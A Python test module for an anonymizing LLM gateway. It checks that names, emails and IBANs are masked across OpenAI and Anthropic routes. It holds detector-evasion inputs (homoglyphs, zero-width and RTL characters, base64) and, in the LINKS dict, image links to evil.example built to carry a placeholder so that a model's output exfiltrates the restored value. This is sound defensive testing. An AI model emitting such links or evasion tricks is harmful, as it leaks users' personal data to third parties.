"""Review of session 20: every field of every route, read by an attacker and by the person whose
data it is. With anonymization on, no personal value reaches the upstream -- in clear, JSON-escaped,
URL-encoded, double-encoded, decomposed or disguised -- or the request is refused (400, in the
dialect's own error shape, naming the field) and nothing is sent.

One gateway for the module, with the shared fake OpenAI upstream and a fake Anthropic upstream,
both recording what they received; clients are the official SDKs and httpx, over HTTP."""

from __future__ import annotations

import base64
import json
import unicodedata
import urllib.parse
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import httpx
import pytest

from tests.conftest import free_port
from tests.fakes.anthropic_upstream import ANTHROPIC_KEY, FakeAnthropic
from tests.fakes.openai_upstream import UPSTREAM_KEY, FakeOpenAI, Received, ServerThread
from tests.gateways import fake_entries, running_gateway

PERSON = "Anna Meier"
EMAIL = "anna.meier@example.ch"
IBAN = "CH93 0076 2011 6238 5295 7"
PHONE = "+41 79 123 45 67"
VALUES = (PERSON, EMAIL, IBAN, IBAN.replace(" ", ""))
KEY = "tk-review20-" + "5" * 16


@dataclass
class Review:
    base_url: str
    log_path: Path
    openai: FakeOpenAI
    anthropic: FakeAnthropic

    def sent(self, marker: str) -> list[Received]:
        """Every request either upstream received that mentions `marker`."""
        return [*self.openai.log.find(marker), *self.anthropic.log.find(marker)]

    def post(self, path: str, body: dict[str, Any], headers: dict[str, str] | None = None) -> httpx.Response:
        headers = {"Authorization": f"Bearer {KEY}", "x-api-key": KEY, "anthropic-version": "2023-06-01",
                   **(headers or {})}
        return httpx.post(self.base_url + path, json=body, headers=headers, timeout=30)


@pytest.fixture(scope="module")
def review(upstream: tuple[FakeOpenAI, str], tmp_path_factory: pytest.TempPathFactory) -> Iterator[Review]:
    fake_openai, url = upstream
    fake_anthropic = FakeAnthropic()
    with ServerThread(fake_anthropic.app, free_port()) as server:
        anthropic_url = f"http://127.0.0.1:{server.port}/v1"
        anthropic_entries = [{"name": f"anthropic/{scenario}", "provider": "anthropic", "upstream_model": scenario,
                              "base_url": anthropic_url, "api_key": "${ANTHROPIC_TEST_KEY}", "region": "eu",
                              "timeout": 10} for scenario in ("echo", "tools")]
        config = {"api_keys": [{"name": "review", "key": KEY}],
                  "models": [*fake_entries(url), *anthropic_entries]}
        env = {"FAKE_UPSTREAM_KEY": UPSTREAM_KEY, "ANTHROPIC_TEST_KEY": ANTHROPIC_KEY}
        with running_gateway(config, env, tmp_path_factory.mktemp("review20")) as (base_url, log_path):
            yield Review(base_url, log_path, fake_openai, fake_anthropic)


def forms(value: str) -> set[str]:
    """A value as it may appear in a request: itself, JSON-escaped (ASCII or not, once or twice),
    URL-encoded, and its NFC and NFD forms."""
    out: set[str] = set()
    for v in {value, unicodedata.normalize("NFC", value), unicodedata.normalize("NFD", value)}:
        once = json.dumps(v, ensure_ascii=True)[1:-1]
        out |= {v, json.dumps(v, ensure_ascii=False)[1:-1], once, json.dumps(once)[1:-1],
                urllib.parse.quote(v), urllib.parse.quote_plus(v)}
    return out


def everything(received: Received) -> str:
    return " ".join([received.path, json.dumps(received.headers, ensure_ascii=False),
                     json.dumps(received.body, ensure_ascii=False), json.dumps(received.body)])


def assert_clean(review: Review, marker: str, *values: str) -> str:
    """The marker's request reached an upstream, and nothing of `values` is anywhere in it."""
    received = review.sent(marker)
    assert received, "the request was not sent"
    text = " ".join(everything(r) for r in received)
    for value in values or VALUES:
        for form in forms(value):
            assert form not in text, f"{value!r} reached the upstream as {form!r}"
    return text


def assert_refused(review: Review, marker: str, response: httpx.Response, field: str, dialect: str = "openai") -> None:
    """A 400 in the dialect's own shape that names `field`, and nothing sent."""
    assert response.status_code == 400, response.text
    body = response.json()
    if dialect == "openai":
        assert body["error"]["param"] == field, body
    elif dialect == "anthropic":
        assert body["type"] == "error" and body["error"]["type"] == "invalid_request_error", body
        assert body["error"]["message"].startswith(f"{field}:"), body
    assert review.sent(marker) == [], "a refused request reached the upstream"


def chat(review: Review, marker: str, messages: list[dict[str, Any]], **fields: Any) -> httpx.Response:
    body = {"model": "fake/echo", "anonymize": True, "messages": messages, **fields}
    return review.post("/v1/chat/completions", body)


def responses(review: Review, **fields: Any) -> httpx.Response:
    return review.post("/v1/responses", {"model": "fake/echo", "anonymize": True, **fields})


def messages(review: Review, model: str = "anthropic/echo", path: str = "/v1/messages", **fields: Any) -> httpx.Response:
    body = {"model": model, "anonymize": True, **fields}
    if path == "/v1/messages":
        body.setdefault("max_tokens", 100)
    return review.post(path, body)


# --------------------------------------------------------------------------- JSON inside JSON


def double_encoded() -> str:
    """A tool's answer whose body is JSON held in a string of JSON (an HTTP tool returning the body it
    got as text): `J\\u00fcrg` is what the detector reads after one decoding."""
    inner = json.dumps({"kunde": "Jürg Müller", "mail": EMAIL, "telefon": PHONE})
    return json.dumps({"status": 200, "body": inner})


@pytest.mark.parametrize("where", ["tool_message", "tool_call_arguments"])
def test_chat_double_encoded_json_is_masked(review: Review, marker: str, where: str) -> None:
    call = {"id": "c1", "type": "function", "function": {"name": "http_get", "arguments": "{}"}}
    if where == "tool_call_arguments":
        call["function"]["arguments"] = json.dumps({"request": json.dumps({"kunde": "Jürg Müller", "mail": EMAIL})})
    response = chat(review, marker, [
        {"role": "user", "content": f"{marker} Wer ist der Kunde?"},
        {"role": "assistant", "content": None, "tool_calls": [call]},
        {"role": "tool", "tool_call_id": "c1", "content": double_encoded() if where == "tool_message" else "ok"}])
    assert response.status_code == 200, response.text
    assert_clean(review, marker, EMAIL, "Jürg Müller", "Müller", "M\\u00fcller")


def test_responses_double_encoded_function_output_is_masked(review: Review, marker: str) -> None:
    response = responses(review, input=[
        {"role": "user", "content": f"{marker} Wer ist der Kunde?"},
        {"type": "function_call", "call_id": "c1", "name": "http_get", "arguments": "{}"},
        {"type": "function_call_output", "call_id": "c1", "output": double_encoded()}])
    assert response.status_code == 200, response.text
    assert_clean(review, marker, EMAIL, "Jürg Müller", "Müller", "M\\u00fcller")


def test_messages_double_encoded_tool_use_input_is_masked(review: Review, marker: str) -> None:
    response = messages(review, messages=[
        {"role": "user", "content": f"{marker} Wer ist der Kunde?"},
        {"role": "assistant", "content": [{"type": "tool_use", "id": "toolu_1", "name": "http_get",
                                           "input": {"body": json.dumps({"kunde": "Jürg Müller", "mail": EMAIL})}}]},
        {"role": "user", "content": [{"type": "tool_result", "tool_use_id": "toolu_1", "content": double_encoded()}]}])
    assert response.status_code == 200, response.text
    assert_clean(review, marker, EMAIL, "Jürg Müller", "Müller", "M\\u00fcller")


def test_chat_escapes_in_text_that_is_not_json(review: Review, marker: str) -> None:
    """A Python repr or a log line with `\\u` escapes: not JSON, so read as text with its escapes."""
    text = "{'kunde': 'J\\u00fcrg M\\u00fcller', 'ort': 'Z\\u00fcrich'}"
    response = chat(review, marker, [{"role": "user", "content": f"{marker} Kunde laut Log: {text}"}])
    assert response.status_code in (200, 400), response.text
    if response.status_code == 200:
        assert_clean(review, marker, "J\\u00fcrg M\\u00fcller", "M\\u00fcller")
    else:
        assert review.sent(marker) == []


# --------------------------------------------------------------------------- disguised values


DISGUISES = {
    "nfd_name": (unicodedata.normalize("NFD", "Mein Name ist Jürg Müller, Bahnhofstrasse 1, 8001 Zürich."),
                 ["Müller"]),
    "zero_width_email": ("Schreib an anna.meier\u200b@example.ch bitte.", ["anna.meier"]),
    "soft_hyphen_email": ("Schreib an anna.mei\u00ader@example.ch bitte.", ["anna.mei"]),
    "cyrillic_a_email": ("Schreib an \u0430nna.meier@example.ch bitte.", ["nna.meier@example.ch"]),
    "url_encoded_email": ("Siehe https://crm.example.com/suche?mail=anna.meier%40example.ch&x=1",
                          ["anna.meier%40example.ch"]),
    "html_nbsp": ("Kundin: Frau Anna&nbsp;Meier, Tel.&nbsp;079&nbsp;123&nbsp;45&nbsp;67", ["Anna&nbsp;Meier", "123&nbsp;45"]),
    "iban_wrapped": ("IBAN CH93 0076 2011\n6238 5295 7", ["6238 5295"]),
    "rtl_override_email": ("Mail: \u202ehc.elpmaxe@reiem.anna\u202c", ["hc.elpmaxe@reiem.anna"]),
    "truncated_json": ('{"kunde": "J\\u00fcrg M\\u00fcller", "mail": "anna.meier@example.ch", "notiz": "m\\u00f6chte',
                       ["M\\u00fcller", EMAIL]),
}


@pytest.mark.parametrize("case", list(DISGUISES))
def test_chat_disguised_values(review: Review, marker: str, case: str) -> None:
    text, leaks = DISGUISES[case]
    response = chat(review, marker, [{"role": "user", "content": f"{marker} {text}"}])
    if response.status_code == 400:
        assert review.sent(marker) == []
        return
    assert response.status_code == 200, response.text
    assert_clean(review, marker, *leaks)


# Values the detectors missed when this review was written (strict xfail then); found since (session 20:
# full-width forms and backslash-escaped addresses in normalize.py, "ich bin anna meier und …" in chats.py,
# "&lt;"/"&gt;" read as angle brackets).
DETECTOR_GAPS = {
    "fullwidth_iban": ("IBAN: ＣＨ９３ ００７６ ２０１１ ６２３８ ５２９５ ７", ["６２３８ ５２９５"]),
    "fullwidth_phone": ("Ruf mich an: ０７９ １２３ ４５ ６７", ["１２３ ４５ ６７"]),
    "lower_case_name": ("hallo, ich bin anna meier und wohne in bern", ["anna meier"]),
    "html_entity_name": ("Kontakt: J&uuml;rg M&uuml;ller &lt;info@example.org&gt;", ["M&uuml;ller"]),
    "regex_escaped_email": ("Erlaubt ist nur ^anna\\.meier@example\\.ch$", ["meier@example"]),
    "markdown_escaped_email": ("Mail: anna\\_meier@example.ch", ["Mail: anna"]),
}


@pytest.mark.parametrize("case", list(DETECTOR_GAPS))
def test_chat_values_the_detectors_miss(review: Review, marker: str, case: str) -> None:
    text, leaks = DETECTOR_GAPS[case]
    response = chat(review, marker, [{"role": "user", "content": f"{marker} {text}"}])
    assert response.status_code == 200, response.text
    assert_clean(review, marker, *leaks)


def test_chat_schema_pattern_with_an_escaped_email(review: Review, marker: str) -> None:
    tools = [{"type": "function", "function": {"name": "mail", "parameters": {"type": "object", "properties": {
        "to": {"type": "string", "pattern": "^anna\\.meier@example\\.ch$"}}}}}]
    response = chat(review, marker, [{"role": "user", "content": f"{marker} Mail bitte"}], tools=tools)
    assert response.status_code == 200, response.text
    assert_clean(review, marker, "meier@example")


B64 = base64.b64encode(f"Akte {PERSON}, {EMAIL}, {IBAN}".encode()).decode()


@pytest.mark.parametrize("route", ["chat", "tool_arguments", "responses", "messages"])
def test_base64_text_in_a_data_url_is_masked(review: Review, marker: str, route: str) -> None:
    """`data:text/plain;base64,…` in a prompt: the model reads the text as easily as the gateway
    could; the detectors see only base64. Masked inside (decoded, masked, encoded again)."""
    text = f"{marker} Anhang: data:text/plain;charset=utf-8;base64,{B64} -- bitte zusammenfassen"
    if route == "chat":
        response = chat(review, marker, [{"role": "user", "content": text}])
    elif route == "tool_arguments":
        response = chat(review, marker, [
            {"role": "user", "content": f"{marker} Lies die Datei"},
            {"role": "assistant", "content": None, "tool_calls": [{"id": "c1", "type": "function", "function": {
                "name": "save", "arguments": json.dumps({"file": f"data:text/plain;base64,{B64}"})}}]},
            {"role": "tool", "tool_call_id": "c1", "content": json.dumps({"saved": f"data:text/plain;base64,{B64}"})}])
    elif route == "responses":
        response = responses(review, input=text)
    else:
        response = messages(review, messages=[{"role": "user", "content": text}])
    assert response.status_code == 200, response.text
    sent = assert_clean(review, marker, B64[:16], B64[-16:])
    payloads = [m.group(1) for m in __import__("re").finditer(r"base64,([A-Za-z0-9+/=]+)", sent)]
    assert payloads, "the data URL itself is still there"
    for payload in payloads:
        decoded = base64.b64decode(payload).decode()
        for value in VALUES:
            assert value not in decoded
        assert "Akte" in decoded, decoded


def test_base64_binary_in_a_data_url_is_refused(review: Review, marker: str) -> None:
    """A binary payload (a PDF, an image pasted as text) cannot be read, so not masked: refused."""
    pdf = base64.b64encode(b"%PDF-1.4\n\xe2\xe3\xcf\xd3\n" + EMAIL.encode() + b"\x00\xff").decode()
    response = chat(review, marker, [{"role": "user", "content": f"{marker} Anhang: data:application/pdf;base64,{pdf}"}])
    assert_refused(review, marker, response, "messages[0].content")


# --------------------------------------------------------------------------- fields that are not sent


def test_chat_fields_the_gateway_does_not_send(review: Review, marker: str) -> None:
    response = chat(
        review, marker, [{"role": "user", "content": f"{marker} Hallo"}],
        prediction={"type": "content", "content": f"Liebe {PERSON}, {EMAIL}"},
        web_search_options={"user_location": {"type": "approximate", "approximate": {"city": "Wädenswil"}}},
        metadata={"kunde": EMAIL}, safety_identifier=EMAIL, prompt_cache_key=EMAIL,
        functions=[{"name": "mail", "description": f"an {EMAIL}", "parameters": {"type": "object"}}],
        audio={"voice": "alloy", "format": "wav"}, modalities=["text"], store=True, service_tier="auto",
        verbosity="low", extra_thing={EMAIL: IBAN},
    )
    assert response.status_code == 200, response.text
    assert_clean(review, marker, *VALUES, "Wädenswil")


def test_chat_request_headers_are_not_forwarded(review: Review, marker: str) -> None:
    body = {"model": "fake/echo", "anonymize": True, "messages": [{"role": "user", "content": f"{marker} Hallo"}]}
    response = review.post("/v1/chat/completions", body, headers={
        "OpenAI-Organization": "org-anna-meier", "OpenAI-Project": EMAIL, "X-Client-Request-Id": EMAIL,
        "User-Agent": f"crm/1.0 ({EMAIL})", "X-Forwarded-For": "203.0.113.7", "Cookie": f"user={EMAIL}"})
    assert response.status_code == 200, response.text
    assert_clean(review, marker, EMAIL, "anna-meier", "203.0.113.7")


def test_chat_logit_bias_takes_token_ids_only(review: Review, marker: str) -> None:
    response = chat(review, marker, [{"role": "user", "content": f"{marker} Hallo"}], logit_bias={"Anna_Meier": 5})
    if response.status_code == 400:
        assert_refused(review, marker, response, "logit_bias")
        return
    assert_clean(review, marker, "Anna_Meier")


def test_chat_reasoning_effort_is_a_level(review: Review, marker: str) -> None:
    response = chat(review, marker, [{"role": "user", "content": f"{marker} Hallo"}], reasoning_effort="Anna_Meier")
    if response.status_code == 400:
        assert_refused(review, marker, response, "reasoning_effort")
        return
    assert_clean(review, marker, "Anna_Meier")


# --------------------------------------------------------------------------- Responses API


def test_responses_instructions_and_tools_are_masked(review: Review, marker: str) -> None:
    response = responses(
        review, instructions=f"Du hilfst {PERSON} ({EMAIL}).",
        input=[{"role": "user", "content": [{"type": "input_text", "text": f"{marker} IBAN {IBAN}"}]}],
        tools=[{"type": "custom", "name": "mailer", "description": f"Mail an {EMAIL}",
                "format": {"type": "grammar", "syntax": "regex", "definition": f"({EMAIL}|team@example.ch)"}},
               {"type": "namespace", "name": "crm", "description": f"CRM von {PERSON}", "tools": [
                   {"type": "function", "name": "find", "parameters": {"type": "object", "properties": {
                       "who": {"type": "string", "enum": [EMAIL]}}}}]}],
        text={"format": {"type": "json_schema", "name": "kunde", "description": f"Kunde {PERSON}",
                         "schema": {"type": "object", "properties": {"iban": {"type": "string", "default": IBAN}}}}},
    )
    assert response.status_code == 200, response.text
    assert_clean(review, marker)


def test_responses_fields_the_gateway_does_not_send(review: Review, marker: str) -> None:
    response = responses(
        review, input=[
            {"role": "user", "content": f"{marker} Hallo"},
            {"type": "reasoning", "id": "rs_1", "summary": [{"type": "summary_text", "text": f"{PERSON} {EMAIL}"}],
             "encrypted_content": base64.b64encode(EMAIL.encode()).decode()},
            {"role": "user", "content": "und?"}],
        tools=[{"type": "web_search", "user_location": {"type": "approximate", "city": "Wädenswil",
                                                         "region": "Zürich", "country": "CH"}}],
        metadata={"kunde": EMAIL}, safety_identifier=EMAIL, prompt_cache_key=EMAIL, user=EMAIL,
        prompt={"id": "pmpt_1", "variables": {"kunde": PERSON}}, include=["reasoning.encrypted_content"],
        store=True, background=False, truncation="auto", extra_thing={EMAIL: IBAN},
    )
    assert response.status_code == 200, response.text
    assert_clean(review, marker, *VALUES, "Wädenswil")


@pytest.mark.parametrize("tool, field", [
    ({"type": "mcp", "server_label": "crm", "server_url": f"https://crm.example.ch/mcp?u={EMAIL}",
      "headers": {"Authorization": "Bearer secret"}}, "tools[0].type"),
    ({"type": "file_search", "vector_store_ids": ["vs_1"]}, "tools[0].type"),
    ({"type": "computer_use_preview", "display_width": 1024, "display_height": 768, "environment": "browser"},
     "tools[0].type"),
    ({"type": "code_interpreter", "container": {"type": "auto", "file_ids": ["file-1"]}}, "tools[0].type"),
], ids=["mcp", "file_search", "computer", "code_interpreter"])
def test_responses_hosted_tools_are_refused(review: Review, marker: str, tool: dict[str, Any], field: str) -> None:
    response = responses(review, input=f"{marker} {PERSON}", tools=[tool])
    assert_refused(review, marker, response, field)


@pytest.mark.parametrize("item, field", [
    ({"type": "computer_call_output", "call_id": "c1", "output": {"type": "computer_screenshot",
                                                                  "image_url": "data:image/png;base64,iVBO"}},
     "input[1].type"),
    ({"type": "item_reference", "id": "msg_1"}, "input[1]"),
    ({"role": "user", "content": [{"type": "input_file", "filename": "cv.txt",
                                   "file_data": base64.b64encode(EMAIL.encode()).decode()}]}, "input[1].content[0]"),
    ({"role": "user", "content": [{"type": "input_image", "image_url": f"https://example.ch/p.png?m={EMAIL}"}]},
     "input[1].content[0]"),
    ({"type": "mcp_call", "id": "mcp_1", "name": "find", "server_label": "crm", "arguments": json.dumps({"m": EMAIL}),
      "output": PERSON}, "input[1].type"),
], ids=["computer_call_output", "item_reference", "input_file", "input_image", "mcp_call"])
def test_responses_items_that_cannot_be_masked_are_refused(review: Review, marker: str, item: dict[str, Any],
                                                           field: str) -> None:
    response = responses(review, input=[{"role": "user", "content": f"{marker} hallo"}, item])
    assert_refused(review, marker, response, field)


# --------------------------------------------------------------------------- Messages API


def test_messages_every_text_field_is_masked(review: Review, marker: str) -> None:
    response = messages(
        review, system=[{"type": "text", "text": f"Du hilfst {PERSON}."}],
        metadata={"user_id": EMAIL}, stop_sequences=[EMAIL],
        tools=[{"name": "mail", "description": f"an {EMAIL}", "input_schema": {
            "type": "object", "properties": {"iban": {"type": "string", "default": IBAN}}}},
               {"type": "web_search_20250305", "name": "web_search", "max_uses": 2,
                "user_location": {"type": "approximate", "city": "Wädenswil", "country": "CH"}}],
        messages=[
            {"role": "user", "content": [
                {"type": "text", "text": f"{marker} Wer ist das?"},
                {"type": "document", "source": {"type": "text", "media_type": "text/plain", "data": f"Akte {PERSON}"},
                 "title": f"Akte {EMAIL}", "context": f"IBAN {IBAN}", "citations": {"enabled": True}},
                {"type": "search_result", "source": f"https://crm.example.ch/k?mail={EMAIL}", "title": PERSON,
                 "content": [{"type": "text", "text": f"{PERSON} wohnt in Zürich"}]}]},
            {"role": "assistant", "content": [
                {"type": "thinking", "thinking": f"{PERSON} {EMAIL}", "signature": "c2ln"},
                {"type": "text", "text": "Sie ist Kundin.", "citations": [
                    {"type": "char_location", "cited_text": f"{PERSON} {EMAIL}", "document_index": 0,
                     "document_title": PERSON, "start_char_index": 0, "end_char_index": 5}]}]},
            {"role": "user", "content": "Danke."}],
    )
    assert response.status_code == 200, response.text
    assert_clean(review, marker, *VALUES, "Wädenswil")


@pytest.mark.parametrize("fields, field", [
    ({"mcp_servers": [{"type": "url", "url": f"https://crm.example.ch/mcp?u={EMAIL}", "name": "crm",
                       "authorization_token": "secret"}]}, "mcp_servers"),
    ({"container": {"id": "container_1", "skills": [{"type": "custom", "skill_id": EMAIL, "version": "1"}]}},
     "container"),
    ({"tools": [{"type": "web_fetch_20250910", "name": "web_fetch", "allowed_domains": [f"{EMAIL}"]}]},
     "tools[0].allowed_domains"),
    ({"tools": [{"type": "my_tool_20250101", "name": "crm", "description": f"Mails to {PERSON}"}]}, "tools[0]"),
], ids=["mcp_servers", "container_skill", "allowed_domains", "server_tool_setting"])
def test_messages_verbatim_fields_with_personal_data_are_refused(review: Review, marker: str, fields: dict[str, Any],
                                                                 field: str) -> None:
    response = messages(review, messages=[{"role": "user", "content": f"{marker} an {PERSON}"}], **fields)
    assert response.status_code == 400, response.text
    assert response.json()["error"]["message"].startswith(field), response.text
    assert review.sent(marker) == []


def test_messages_beta_header_with_personal_data_is_not_sent(review: Review, marker: str) -> None:
    body = {"model": "anthropic/echo", "anonymize": True, "max_tokens": 50,
            "messages": [{"role": "user", "content": f"{marker} an {PERSON}"}]}
    response = review.post("/v1/messages", body, headers={"anthropic-beta": f"{EMAIL},anna-meier"})
    if response.status_code == 400:
        assert review.sent(marker) == []
        return
    assert response.status_code == 200, response.text
    assert_clean(review, marker, EMAIL, "anna-meier")


@pytest.mark.parametrize("model", ["anthropic/echo", "fake/echo"])
def test_messages_count_tokens_is_masked(review: Review, marker: str, model: str) -> None:
    response = messages(review, model=model, path="/v1/messages/count_tokens",
                        system=f"Du hilfst {PERSON}, {EMAIL}.",
                        messages=[{"role": "user", "content": f"{marker} IBAN {IBAN}"}])
    assert response.status_code == 200, response.text
    if model == "anthropic/echo":
        assert_clean(review, marker)
    else:
        assert review.sent(marker) == [], "an estimate sends nothing"


# --------------------------------------------------------------------------- more fields (batch 2)


def test_messages_server_blocks_of_earlier_answers_are_not_sent(review: Review, marker: str) -> None:
    response = messages(review, tools=[{"type": "web_search_20250305", "name": "web_search"}], messages=[
        {"role": "user", "content": f"{marker} Suche"},
        {"role": "assistant", "content": [
            {"type": "server_tool_use", "id": "srvtoolu_1", "name": "web_search", "input": {"query": f"{PERSON} {EMAIL}"}},
            {"type": "web_search_tool_result", "tool_use_id": "srvtoolu_1", "content": [
                {"type": "web_search_result", "title": f"Profil {PERSON}", "url": f"https://example.ch/{EMAIL}",
                 "encrypted_content": "ZW5j", "page_age": None}]},
            {"type": "text", "text": "Gefunden."}]},
        {"role": "user", "content": "Und weiter?"}])
    assert response.status_code == 200, response.text
    assert_clean(review, marker)


@pytest.mark.parametrize("block, field", [
    ({"type": "image", "source": {"type": "url", "url": f"https://example.ch/p.png?m={EMAIL}"}}, "messages[0].content[1]"),
    ({"type": "document", "source": {"type": "base64", "media_type": "application/pdf", "data": "JVBERi0="}},
     "messages[0].content[1]"),
    ({"type": "document", "source": {"type": "url", "url": f"https://example.ch/cv.pdf?m={EMAIL}"}},
     "messages[0].content[1].source"),
    ({"type": "tool_result", "tool_use_id": "t1", "content": [
        {"type": "image", "source": {"type": "base64", "media_type": "image/png", "data": "iVBORw0KGgo="}}]},
     "messages[0].content[1]"),
], ids=["image_url", "pdf", "document_url", "image_in_tool_result"])
def test_messages_media_is_refused(review: Review, marker: str, block: dict[str, Any], field: str) -> None:
    response = messages(review, messages=[{"role": "user", "content": [{"type": "text", "text": f"{marker} Bild"},
                                                                       block]}])
    assert response.status_code == 400, response.text
    assert response.json()["error"]["message"].startswith(field), response.text
    assert review.sent(marker) == []


def test_messages_count_tokens_refuses_mcp_servers(review: Review, marker: str) -> None:
    response = messages(review, path="/v1/messages/count_tokens", messages=[{"role": "user", "content": marker}],
                        mcp_servers=[{"type": "url", "url": f"https://crm.example.ch/?u={EMAIL}", "name": "crm"}])
    assert response.status_code == 400, response.text
    assert review.sent(marker) == []


def test_responses_stateful_fields_are_refused(review: Review, marker: str) -> None:
    for field, value in (("previous_response_id", "resp_1"), ("conversation", {"id": "conv_1"})):
        response = responses(review, input=f"{marker} {PERSON}", **{field: value})
        assert_refused(review, marker, response, field)


def test_responses_tool_names_with_personal_data_are_refused(review: Review, marker: str) -> None:
    response = responses(review, input=f"{marker} an {EMAIL}",
                         tools=[{"type": "function", "name": "mail", "parameters": {"type": "object"}}],
                         tool_choice={"type": "function", "name": f"mail_{EMAIL}"})
    assert_refused(review, marker, response, "tool_choice")
    response = responses(review, input=[{"role": "user", "content": f"{marker} an {EMAIL}"},
                                        {"type": "function_call", "call_id": "c", "name": "mail",
                                         "namespace": "anna_meier", "arguments": "{}"},
                                        {"type": "function_call_output", "call_id": "c", "output": "ok"}])
    assert response.status_code == 400 and review.sent(marker) == [], response.text


# --------------------------------------------------------------------------- the answer: restored everywhere


def sse_data(text: str) -> list[dict[str, Any]]:
    return [json.loads(line[5:]) for line in text.splitlines()
            if line.startswith("data:") and line.strip() != "data: [DONE]"]


def stream(review: Review, path: str, body: dict[str, Any]) -> str:
    headers = {"Authorization": f"Bearer {KEY}", "x-api-key": KEY, "anthropic-version": "2023-06-01"}
    with httpx.stream("POST", review.base_url + path, json={**body, "stream": True}, headers=headers,
                      timeout=30) as response:
        assert response.status_code == 200, response.read()
        return "".join(response.iter_text())


@pytest.mark.parametrize("route, streamed", [
    ("chat", False), ("chat", True), ("responses", False), ("responses", True), ("messages-openai", False),
    ("messages-anthropic", False), ("messages-anthropic", True),
])  # (the OpenAI fake interleaves parallel calls' pieces, which a Messages stream cannot carry: not tried)
def test_tool_call_arguments_come_back_restored(review: Review, marker: str, route: str, streamed: bool) -> None:
    """The `tools` scenario calls search and lookup with {"query": <the masked user text>}: the client
    gets its own text back, values included, and the upstream never saw them."""
    text = f"{marker} an {EMAIL}, IBAN {IBAN}"
    tool = {"type": "function", "function": {"name": "search", "parameters": {"type": "object"}}}
    if route == "chat":
        path, body = "/v1/chat/completions", {"model": "fake/tools", "messages": [{"role": "user", "content": text}],
                                             "tools": [tool]}
    elif route == "responses":
        path, body = "/v1/responses", {"model": "fake/tools", "input": text,
                                       "tools": [{"type": "function", "name": "search"}]}
    else:
        model = "anthropic/tools" if route == "messages-anthropic" else "fake/tools"
        path, body = "/v1/messages", {"model": model, "max_tokens": 100, "messages": [{"role": "user", "content": text}],
                                      "tools": [{"name": "search", "input_schema": {"type": "object"}}]}
    body["anonymize"] = True
    if streamed:
        answer = stream(review, path, body)
    else:
        response = review.post(path, body)
        assert response.status_code == 200, response.text
        answer = response.text
    assert_clean(review, marker)
    assert "[[EMAIL_" not in answer and "[[IBAN_" not in answer, "placeholders reached the client"
    assert EMAIL in answer.replace("\\", "") or EMAIL in "".join(
        json.dumps(e) for e in sse_data(answer)), "the client got its value back"


# --------------------------------------------------------------------------- placeholders inside URLs


LINKS = {
    "protocol_relative": "![x](//evil.example/p.png?u=[[EMAIL_1]])",
    "quote_inside": "![x](https://evil.example/p.png?u='[[EMAIL_1]]')",
    "parentheses_inside": "![x](https://evil.example/a(b)[[EMAIL_1]])",
    "angle_brackets_with_space": "![x](<https://evil.example/a b [[EMAIL_1]]>)",
    "html_attribute": '<img src="https://evil.example/?u= [[EMAIL_1]]">',
    "html_protocol_relative": "<img src=//evil.example/?u=[[EMAIL_1]]>",
    "backslashes": "![x](https:\\\\evil.example/?u=[[EMAIL_1]])",
    "no_slashes": "![x](https:evil.example/?u=[[EMAIL_1]])",
    "reference_definition": '[ref]: https://evil.example/?u="[[EMAIL_1]]"',
}


@pytest.mark.parametrize("case", list(LINKS))
@pytest.mark.parametrize("streamed", [False, True], ids=["whole", "streamed"])
def test_placeholders_inside_links_are_not_restored(case: str, streamed: bool) -> None:
    """A model (or an upstream that wants the data) writes a link or an image whose URL holds a
    placeholder: restored, the client's markdown or HTML renderer would send the value to that host.
    The plain mention around it is restored as ever."""
    import asyncio

    from tarnkappe.core.types import ChatChunk, ChatRequest, ChatResult, Choice, ChoiceDelta, Message
    from tarnkappe.gateway.anonymization import mask_request
    from tarnkappe.gateway.restore import restore_result, restore_stream

    request = ChatRequest(model="m", messages=[Message(role="user", content=f"Schreib an {EMAIL}")])
    vault = mask_request(anonymizer(), request)
    answer = f"Mail an [[EMAIL_1]].\n\n{LINKS[case]}\n\nGruss an [[EMAIL_1]]"
    if streamed:
        async def pieces() -> Any:
            for i in range(0, len(answer), 3):
                yield ChatChunk(id="s", created=0, model="m", choices=[ChoiceDelta(index=0, content=answer[i:i + 3])])

        async def joined() -> str:
            return "".join([c.choices[0].content or "" async for c in restore_stream(pieces(), vault) if c.choices])
        restored = asyncio.run(joined())
    else:
        result = ChatResult(id="r", created=0, model="m", choices=[
            Choice(index=0, finish_reason="stop", message=Message(role="assistant", content=answer))])
        restore_result(result, vault)
        restored = str(result.choices[0].message.content)
    link = restored.split("\n\n")[1]
    assert EMAIL not in link, f"restored inside a URL: {link!r}"
    assert restored.startswith(f"Mail an {EMAIL}.") and restored.endswith(f"Gruss an {EMAIL}")


_ANONYMIZER: list[Any] = []


def anonymizer() -> Any:
    from tarnkappe.privacy import Anonymizer

    if not _ANONYMIZER:
        _ANONYMIZER.append(Anonymizer())
    return _ANONYMIZER[0]


def test_windows_paths_in_streamed_tool_arguments_are_restored() -> None:
    """No URL, no reason to hold a value back: `C:\\Users\\<name>` in JSON-escaped arguments."""
    import asyncio

    from tarnkappe.core.types import ChatChunk, ChatRequest, ChoiceDelta, Message, ToolCallDelta
    from tarnkappe.gateway.anonymization import mask_request
    from tarnkappe.gateway.restore import restore_stream

    request = ChatRequest(model="m", messages=[Message(role="user", content=f"Ich bin {PERSON}, {EMAIL}")])
    vault = mask_request(anonymizer(), request)
    arguments = '{"path":"C:\\\\Users\\\\[[PERSON_1]]\\\\notes.txt","to":"[[EMAIL_1]]"}'

    async def pieces() -> Any:
        for i in range(0, len(arguments), 4):
            yield ChatChunk(id="s", created=0, model="m", choices=[ChoiceDelta(index=0, tool_calls=[
                ToolCallDelta(index=0, arguments=arguments[i:i + 4])])])

    async def joined() -> str:
        return "".join([c.choices[0].tool_calls[0].arguments or "" async for c in restore_stream(pieces(), vault)
                        if c.choices and c.choices[0].tool_calls])
    restored = json.loads(asyncio.run(joined()))
    assert restored == {"path": f"C:\\Users\\{PERSON}\\notes.txt", "to": EMAIL}


# --------------------------------------------------------------------------- anonymization by policy


@pytest.fixture(scope="module")
def strict(gateways: Any, tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Any, dict[str, str]]]:
    """A gateway whose configuration says `privacy.mode: always`, and one whose organization does."""
    tmp = tmp_path_factory.mktemp("review20-strict")
    always = gateways.start(gateways.config(f"sqlite:///{tmp / 'a.sqlite'}", privacy={"mode": "always"},
                                            api_keys=[{"name": "review", "key": KEY}]), workdir=tmp)
    tmp_org = tmp_path_factory.mktemp("review20-org")
    by_org = gateways.start(gateways.config(f"sqlite:///{tmp_org / 'o.sqlite'}"), workdir=tmp_org)
